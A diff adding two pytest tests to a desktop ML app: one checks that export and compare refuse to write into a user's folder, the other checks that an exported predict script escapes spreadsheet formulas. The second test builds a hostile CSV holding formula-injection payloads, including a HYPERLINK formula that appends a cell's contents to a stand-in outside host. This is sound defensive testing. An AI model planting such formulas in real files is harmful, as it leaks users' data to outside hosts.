@@ -166,3 +166,38 @@ def test_model_names_for_people(tmp_path):
     assert short_name("distilbert-base-uncased") == "distilbert-base-uncased"
     (tmp_path / "my-run" / "model").mkdir(parents=True)
     assert short_name(tmp_path / "my-run" / "model") == "my-run"
+
+
+def test_export_and_compare_never_write_into_the_users_own_folder(env, tmp_path):
+    from desktop_app.core.errors import UserInputError
+
+    mine = tmp_path / "my documents"
+    mine.mkdir()
+    (mine / "thesis.docx").write_text("two years of work", encoding="utf-8")
+    with pytest.raises(UserInputError, match="not an export"):
+        export_run(env["teacher"], "hf", mine)
+    with pytest.raises(UserInputError, match="not a model comparison"):
+        compare(env["data"], [str(env["bert"])], mine, SETTINGS, speed_docs=8, latency_docs=2)
+    with pytest.raises(UserInputError, match="inside"):
+        export_run(env["teacher"], "hf", env["teacher"] / "exported")
+    assert [p.name for p in mine.iterdir()] == ["thesis.docx"]
+    assert (mine / "thesis.docx").read_text(encoding="utf-8") == "two years of work"
+    assert not (env["teacher"] / "exported").exists()
+
+
+def test_exported_predict_script_writes_no_live_formulas(env, tmp_path):
+    out = tmp_path / "exp"
+    export_run(env["teacher"], "onnx", out, latency_docs=2)
+    hostile = tmp_path / "hostile.csv"
+    with hostile.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["=cmd", "text"])
+        w.writerow(['=HYPERLINK("http://example.invalid/"&A2,"x")', "my invoice is wrong"])
+        w.writerow(["@SUM(1)", "+1 the app crashes"])
+    result = tmp_path / "out.csv"
+    proc = subprocess.run([sys.executable, str(out / "predict.py"), str(hostile), str(result), "--text-column", "text"],
+                          capture_output=True, text=True, timeout=120, cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    cells = [c for row in csv.reader(result.open(encoding="utf-8")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert "'=cmd" in cells and "'+1 the app crashes" in cells
